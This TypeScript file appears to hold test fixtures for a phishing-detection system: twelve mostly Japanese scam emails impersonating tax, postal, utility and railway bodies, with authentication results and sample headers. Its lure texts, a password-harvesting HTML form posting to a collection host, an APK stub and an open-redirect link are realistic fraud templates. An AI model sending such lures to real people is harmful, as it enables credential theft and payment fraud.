import { buildMail, type Mail } from '../build-mail.ts';
import { button, letter, link } from '../letter.ts';

/** Offices, railways, roads, energy, parcels. */
export const publicAndParcels: Mail[] = [
  {
    name: 'Eki-net, membership ends by itself',
    receiver: 'postfix' as const,
    from: 'えきねっと <eki-net@ytr29.example>',
    auth: { spf: 'pass', dkim: 'ytr29.example', dmarc: 'pass' },
    client: { ip: '203.0.113.180', ptr: 'ytr29.example' },
    zone: '+0800',
    subject: '【重要】えきねっとアカウントの自動退会処理について',
    text: `日頃より「えきねっと」をご利用いただきありがとうございます。

「えきねっと」は2026年11月にサービスをリニューアルいたしました。
これに伴い、最後にログインした日より起算して2年以上ログインのないアカウントは、自動的に退会処理させていただきます。

継続をご希望の場合は、24時間以内に下記よりログインしてください。
https://www.eki-net.ytr29.example/Personal/Login
`,
  },
  {
    name: 'ETC, service cannot be used, forged domain',
    receiver: 'gmail' as const,
    from: 'ETC利用照会サービス <info@etc-meisai.jp>',
    to: 'taro.yamada@example.com',
    envelope: 'u0@oiu77.example',
    auth: { spf: 'pass', dkim: '', dmarc: 'fail' },
    client: { ip: '203.0.113.181', ptr: 'oiu77.example' },
    subject: '【ETC利用照会サービス】ETCサービスは無効になりました',
    html: letter(
      [
        'ETCサービスをご利用のお客様:',
        'ETCサービスは無効になりました。引き続きサービスをご利用いただきたい場合は、下記リンクより詳細をご確認ください。',
        link('http://etc-meisai-jp.oiu77.example/', 'https://www.etc-meisai.jp/'),
        '※24時間以内にご確認がない場合、ETCカードは永久に使用できなくなります。',
      ],
      { font: 'Microsoft YaHei UI' },
    ),
  },
  {
    name: 'National Tax Agency, seizure, prepaid cards',
    receiver: 'yahoo' as const,
    from: '国税庁 <info@nta.go.jp>',
    to: 'hanako@example.com',
    envelope: 'nta@zzr18.cn',
    auth: { spf: 'none', dkim: '', dmarc: 'fail' },
    client: { ip: '203.0.113.182', ptr: '' },
    subject: '【国税庁】税金未払いのお知らせ(差押最終通知)',
    text: `e-Taxをご利用いただきありがとうございます。

あなたの所得税(または延滞金)について、これまで自主的に納付されるよう催促してきましたが、まだ納付されておりません。
最終期限までに納付がない場合、税法の定めにより不動産、自動車、給料、売掛金等の財産の差押処分に着手いたします。

納税確認番号:****1203
滞納金合計:40,000円
最終期限:2026年11月20日

お支払いへ⇒ https://nta-go-jp.zzr18.cn/pay

(Vプリカ、電子マネーでのお支払いのみ受け付けております)
`,
  },
  {
    name: 'e-Tax refund through Firebase host',
    receiver: 'microsoft' as const,
    from: '国税電子申告・納税システム(e-Tax) <refund@vhn3.example>',
    client: { ip: '203.0.113.183', ptr: 'vhn3.example' },
    subject: '税務署からのお知らせ【還付金の処理状況に関するお知らせ】',
    html: letter([
      '還付金 52,300円 のお受け取り手続きが完了しておりません。',
      '還付金の振込先口座およびクレジットカード情報をご登録ください。',
      button('https://etax-kanpu-example.web.app/', '還付金の受取手続き', '#1d5fa8'),
      '手続期限:本日中',
    ]),
  },
  {
    name: 'Mynaportal points of the ministry, shortener',
    receiver: 'sendmail' as const,
    from: 'マイナポイント事務局 <soumu@mnp22.example>',
    auth: { spf: 'pass', dkim: '' },
    client: { ip: '203.0.113.184', ptr: 'mnp22.example' },
    subject: '【総務省】マイナポイント第3弾 2万円分 お申し込み締切のお知らせ',
    text: `総務省よりお知らせです。

マイナポイント第3弾として、2万円分のポイントを受け取ることができます。
申し込み期限は本日までです。

お申し込みはこちら
https://tinyurl.com/mynapoint-example

マイナンバーカードとクレジットカードをご用意ください。
`,
  },
  {
    name: 'TEPCO, power is cut today',
    receiver: 'gmail' as const,
    from: '東京電力 <tepco@mqk30.icu>',
    to: 'taro.yamada@example.com',
    client: { ip: '203.0.113.185', ptr: 'mqk30.icu' },
    subject: '【重要なお知らせ】東京電力 送電停止予定のご連絡',
    html: letter([
      'TEPCOより重要なお知らせ',
      '電気料金の未払いにより、本日18時に送電を停止いたします。停止を避けるためには、直ちに下記よりクレジットカードでお支払いください。',
      button('https://tepco-pay.mqk30.icu/', 'お支払いはこちら', '#d7000f'),
    ]),
  },
  {
    name: 'Yamato, parcel held, address wrong',
    receiver: 'qmail' as const,
    from: 'ヤマト運輸株式会社 <mail@kuronekoyamato.co.jp>',
    auth: { spf: 'fail', dkim: '', dmarc: 'fail' },
    client: { ip: '203.0.113.186', ptr: '', helo: 'localhost.localdomain' },
    zone: '+0800',
    subject: 'お荷物お届けのお知らせ【受け取りの日時や場所をご指定ください】',
    text: `お客様のお荷物を住所不明のため持ち帰りました。
48時間以内にお届け先の確認と再配達料金 280円 のお支払いをお願いします。

https://kuroneko-saihai.fdw4.example/

お手続きがない場合、お荷物は返送されます。
`,
  },
  {
    name: 'Japan Post, customs, duckdns host',
    receiver: 'postfix' as const,
    from: '日本郵便 <jp-post@x9c.example>',
    auth: { spf: 'none', dkim: '', dmarc: 'none' },
    client: { ip: '203.0.113.187', ptr: 'x9c.example' },
    subject: '国際郵便の関税お支払いのお願い',
    text: `お客様宛の国際郵便物が税関で保留されています。
関税 ¥1,500 を24時間以内にお支払いください。

http://jppost-tax-example.duckdns.org/
`,
  },
  {
    name: 'Sagawa with an Android file attached',
    receiver: 'gmail' as const,
    from: '佐川急便 <no-reply@sgw77.example>',
    to: 'hanako@example.com',
    client: { ip: '203.0.113.188', ptr: 'sgw77.example' },
    subject: '【佐川急便】ご不在連絡票',
    text: `お荷物をお届けにあがりましたが不在のため持ち帰りました。
添付のアプリをインストールして、再配達をお申し込みください。
`,
    attachments: [
      {
        filename: 'sagawa.apk',
        type: 'application/vnd.android.package-archive',
        content: 'PK\u0003\u0004 AndroidManifest.xml',
      },
    ],
  },
  {
    name: 'DHL in English, HTML file attached',
    receiver: 'postfix' as const,
    from: 'DHL Express <shipment@dhl-delivery.example>',
    auth: { spf: 'pass', dkim: '', dmarc: 'none' },
    client: { ip: '203.0.113.189', ptr: 'dhl-delivery.example' },
    subject: 'DHL Shipping Document / Invoice - AWB 7720019933',
    text: `Dear Customer,

Your parcel has arrived at the post office. Our courier was unable to deliver the parcel to you due to an incorrect address.
Open the attached document and sign in with your email and password to view the shipping document. The parcel will be returned within 24 hours.

DHL Express Customer Service
`,
    attachments: [
      {
        filename: 'AWB-7720019933.html',
        type: 'text/html',
        content:
          '<html><body><form action="https://collect.dhl-delivery.example/p.php" method="post"><input name="email" value="info@example.co.jp"><input type="password" name="pw"><button>View document</button></form></body></html>',
      },
    ],
  },
  {
    name: 'Pension office, headers cut',
    receiver: 'cut' as const,
    from: '日本年金機構 <nenkin@nkn4.example>',
    to: 'hanako@example.com',
    subject: '【日本年金機構】国民年金保険料 未納のお知らせ(最終催告)',
    html: letter([
      '国民年金保険料が未納となっております。本日中に納付いただけない場合、強制徴収の手続きに入ります。',
      button('https://nenkin-net.nkn4.example/login', 'ねんきんネットで納付する', '#00796b'),
    ]),
  },
  {
    name: 'NHK, contract confirmation, open redirect of an advertiser',
    receiver: 'yahoo' as const,
    from: 'NHK <nhk-info@pluscast.example>',
    to: 'taro.yamada@example.com',
    auth: { spf: 'pass', dkim: 'pluscast.example', dmarc: 'pass' },
    client: { ip: '203.0.113.191', ptr: 'pluscast.example' },
    subject: '【NHK】受信料のお支払いが確認できませんでした',
    html: letter([
      'NHKより重要なお知らせ',
      '受信料のお引き落としができませんでした。',
      link(
        'https://www.googleadservices.com/pagead/aclk?adurl=https://nhk-plus.pluscast.example/',
        'お支払い情報の更新',
      ),
      '更新が確認できない場合、延滞利息を含めた割増金を請求いたします。',
    ]),
  },
].map(buildMail);
